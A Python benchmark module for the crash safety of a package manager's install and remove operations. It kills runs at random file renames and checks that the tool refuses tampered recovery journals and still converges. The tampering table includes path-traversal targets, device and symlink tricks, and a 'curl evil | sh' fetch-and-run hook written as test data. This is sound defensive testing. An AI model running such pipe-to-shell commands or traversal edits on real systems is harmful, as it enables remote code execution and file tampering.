"""The kill-at-a-rename cases of benchmarks/kill_loop.py (issue 13): journal cases (a kill
that leaves a journal, a hostile edit of it refused, the clean journal converging) and
after-lock cases (a kill at every rename after the lock write). See kill_loop.py.
"""

from __future__ import annotations

import json
import os
import random
import shutil
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from benchmarks._killworld import (  # noqa: E402
    OPS,
    World,
    _doctor_rerun_compare,
    _killpoint,
    _must,
    snapshot,
)

# ------------------------------------------------------------------ journal cases
Edit = Callable[[Path, dict, Path], None]  # (journal path, its JSON, outside dir)


def _set(**values: object) -> Edit:
    def edit(path: Path, doc: dict, outside: Path) -> None:
        doc.update({k: str(v).replace("OUTSIDE", str(outside)) for k, v in values.items()})
        path.write_text(json.dumps(doc))

    return edit


def _set_op(**values: str) -> Edit:
    def edit(path: Path, doc: dict, outside: Path) -> None:
        doc["ops"][0].update({k: v.replace("OUTSIDE", str(outside)) for k, v in values.items()})
        path.write_text(json.dumps(doc))

    return edit


def _symlinked(path: Path, doc: dict, outside: Path) -> None:
    copy = outside / "journal.json"
    copy.write_text(
        json.dumps({**doc, "ops": [{**op, "target": "../outside"} for op in doc["ops"]]})
    )
    path.unlink()
    os.symlink(copy, path)


def _fifo(path: Path, doc: dict, outside: Path) -> None:
    path.unlink()
    os.mkfifo(path)


HOSTILE_EDITS: dict[str, tuple[Edit, bool]] = {  # name -> (edit, needs an op)
    "target-traversal": (_set_op(target="../outside"), True),
    "target-absolute": (_set_op(target="OUTSIDE"), True),
    "target-author-folder": (_set_op(target="ontologies/author"), True),
    "new-traversal": (_set_op(new="../../../outside"), True),
    "backup-traversal": (_set_op(backup="old/../../../outside"), True),
    "lockfile-device": (_set(lockfile="/dev/zero"), False),
    "lockfile-relative": (_set(lockfile="ontoskills.lock"), False),
    "unknown-state": (_set(state="rolled-over"), False),
    "extra-field": (_set(hook="curl evil | sh"), False),
    "journal-symlink": (_symlinked, False),
    "journal-fifo": (_fifo, False),
}


@dataclass
class JournalOutcome:
    journal_left: bool
    edit: str  # the hostile edit applied ("" when no journal was left)
    refused: bool  # the run after the edit exited 4 naming the journal, nothing changed
    recovered: str  # "rolled back" | "completed" | "" (what the re-run reported)
    converged: bool
    seconds: float
    why: list[str] = field(default_factory=list)


def _count_replaces(w: World, kind: str, op: str, base: Path) -> int:
    """os.replace calls of an uninterrupted run: the range kill points are drawn from."""
    if (kind, op) not in w.replaces:
        run_dir = base / "count"
        if run_dir.exists():
            shutil.rmtree(run_dir)
        shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
        count = run_dir / "replaces"
        _must(_killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_COUNT": str(count)}))
        w.replaces[(kind, op)] = int(count.read_text())
        shutil.rmtree(run_dir)
    return w.replaces[(kind, op)]


def journal_iteration(
    w: World, kind: str, op: str, rng: random.Random, run_dir: Path
) -> JournalOutcome:
    t0 = time.perf_counter()
    total = _count_replaces(w, kind, op, run_dir.parent)
    if run_dir.exists():
        shutil.rmtree(run_dir)
    shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
    home, lock = run_dir / "home", run_dir / "home/ontoskills.lock"
    outside = run_dir / "outside"
    outside.mkdir()
    (outside / "precious").write_text("keep me")
    old_lock = lock.read_bytes() if lock.exists() else b""
    kill_at = rng.randint(1, total)
    _killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_KILL_AT": str(kill_at)})
    after = lock.read_bytes() if lock.exists() else b""
    state = "old" if after == old_lock else "new" if after == w.refs[(kind, op)]["LOCK"] else "?"
    journals = sorted((home / ".staging").glob("*/journal.json"))
    out = JournalOutcome(bool(journals), "", False, "", False, 0.0)
    if journals:
        journal = journals[0]
        original = journal.read_bytes()
        doc = json.loads(original)
        names = sorted(
            n for n, (_, needs_op) in HOSTILE_EDITS.items() if doc["ops"] or not needs_op
        )
        out.edit = rng.choice(names)
        HOSTILE_EDITS[out.edit][0](journal, doc, outside)
        before = snapshot(home, lock)
        hostile = w.cli(run_dir, *w.op_args(kind, op))
        out.refused = (
            hostile.returncode == 4
            and "journal.json" in hostile.stderr
            and snapshot(home, lock) == before
            and sorted(p.name for p in outside.iterdir() if p.name != "journal.json")
            == ["precious"]
            and (outside / "precious").read_text() == "keep me"
        )
        if not out.refused:
            out.why.append(
                f"hostile {out.edit}: exit {hostile.returncode}: {hostile.stderr[-300:]}"
            )
        journal.unlink(missing_ok=True)  # the user puts the journal ontoskills wrote back
        journal.write_bytes(original)
    _, rerun, why = _doctor_rerun_compare(w, kind, op, run_dir, state)
    out.recovered = next(
        (r for r in ("rolled back", "completed") if f"{r} interrupted transaction" in rerun.stderr),
        "",
    )
    out.why += why
    out.converged = not out.why
    out.seconds = time.perf_counter() - t0
    return out


def print_journal_table(journals: dict[tuple[str, str], list[JournalOutcome]]) -> bool:
    """The journal cases' table; True when every one was refused and converged."""
    print(
        f"\n{'operation':<9} {'source':<7} {'runs':>4} {'journal left':>12} "
        f"{'hostile refused':>15} {'rolled back/fwd':>15} {'converged':>9} {'s/iter':>6}"
    )
    ok = True
    for (kind, op), outs in sorted(
        journals.items(), key=lambda kv: (OPS.index(kv[0][1]), kv[0][0])
    ):
        left = sum(o.journal_left for o in outs)
        refused = sum(o.refused for o in outs)
        back = sum(o.recovered == "rolled back" for o in outs)
        fwd = sum(o.recovered == "completed" for o in outs)
        conv = sum(o.converged for o in outs)
        mean = sum(o.seconds for o in outs) / len(outs)
        ok = ok and conv == len(outs) and refused == left
        print(
            f"{op:<9} {kind:<7} {len(outs):>4} {left:>12} {refused:>15} "
            f"{f'{back}/{fwd}':>15} {conv:>9} {mean:>6.2f}"
        )
    edits = sorted({o.edit for v in journals.values() for o in v if o.edit})
    print(f"hostile edits used: {', '.join(edits) or 'none'}")
    for (kind, op), outs in journals.items():
        for o in outs:
            if not o.converged:
                print(f"NOT CONVERGED (journal) {op} {kind} {o.edit}: {o.why[:5]}")
    return ok


# ------------------------------------------------------------- kills after the commit
INDEXES = ("ontologies/system/index.enabled.ttl", "ontologies/system/index.installed.ttl")


@dataclass
class AfterLockOutcome:
    kill_at: int  # the os.replace killed (1-based); the lock write was an earlier one
    renaming: str  # what that rename would have written, relative to the run folder
    lock_after_kill: str  # must be "new": the commit is on disk
    indexes_stale: bool  # system/index.*.ttl did not match the new lock right after the kill
    rerun_exit: int
    converged: bool
    why: list[str] = field(default_factory=list)


def _trace(w: World, kind: str, op: str, base: Path) -> list[str]:
    """Destinations of every os.replace of an uninterrupted run, relative to its folder."""
    run_dir = base / "trace"
    if run_dir.exists():
        shutil.rmtree(run_dir)
    shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
    trace = run_dir / "trace.txt"
    _must(_killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_TRACE": str(trace)}))
    lines = [
        os.path.relpath(os.path.realpath(line), os.path.realpath(run_dir))
        for line in trace.read_text().splitlines()
    ]
    shutil.rmtree(run_dir)
    return lines


def after_lock_iterations(w: World, kind: str, op: str, base: Path) -> list[AfterLockOutcome]:
    """SIGKILL at every rename after the lock write: the commit is on disk, what follows it
    (the journal's last state, `system/index.*.ttl`, derived data) is not. The re-run (for
    `remove`: of a package already gone, exit 7) must bring the tree, the reference indexes
    and the lock to exactly what an uninterrupted run leaves."""
    trace = _trace(w, kind, op, base)
    lock_writes = [i for i, d in enumerate(trace, 1) if d == "home/ontoskills.lock"]
    if not lock_writes:
        return []
    ref = w.refs[(kind, op)]
    outs = []
    for kill_at in range(lock_writes[-1] + 1, len(trace) + 1):
        run_dir = base / "run"
        if run_dir.exists():
            shutil.rmtree(run_dir)
        shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
        home, lock = run_dir / "home", run_dir / "home/ontoskills.lock"
        _killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_KILL_AT": str(kill_at)})
        state = "new" if (lock.read_bytes() if lock.exists() else b"") == ref["LOCK"] else "?"
        got = snapshot(home, lock)
        stale = any(got.get(i) != ref.get(i) for i in INDEXES)
        _, rerun, why = _doctor_rerun_compare(w, kind, op, run_dir, state)
        if state != "new":
            why.insert(0, "the lock on disk is not the new one after a kill past its write")
        outs.append(
            AfterLockOutcome(
                kill_at, trace[kill_at - 1], state, stale, rerun.returncode, not why, why
            )
        )
    return outs


def print_after_lock_table(after: dict[tuple[str, str], list[AfterLockOutcome]]) -> bool:
    print(
        f"\n{'operation':<9} {'source':<7} {'kill points after the lock write':>33} "
        f"{'indexes stale after kill':>24} {'converged':>9}"
    )
    ok = True
    for (kind, op), outs in sorted(after.items(), key=lambda kv: (OPS.index(kv[0][1]), kv[0][0])):
        conv = sum(o.converged for o in outs)
        ok = ok and conv == len(outs)
        stale = sum(o.indexes_stale for o in outs)
        print(f"{op:<9} {kind:<7} {len(outs):>33} {stale:>24} {conv:>9}")
        for o in outs:
            if not o.converged:
                print(f"NOT CONVERGED (after lock) {op} {kind} at {o.renaming}: {o.why[:5]}")
    return ok
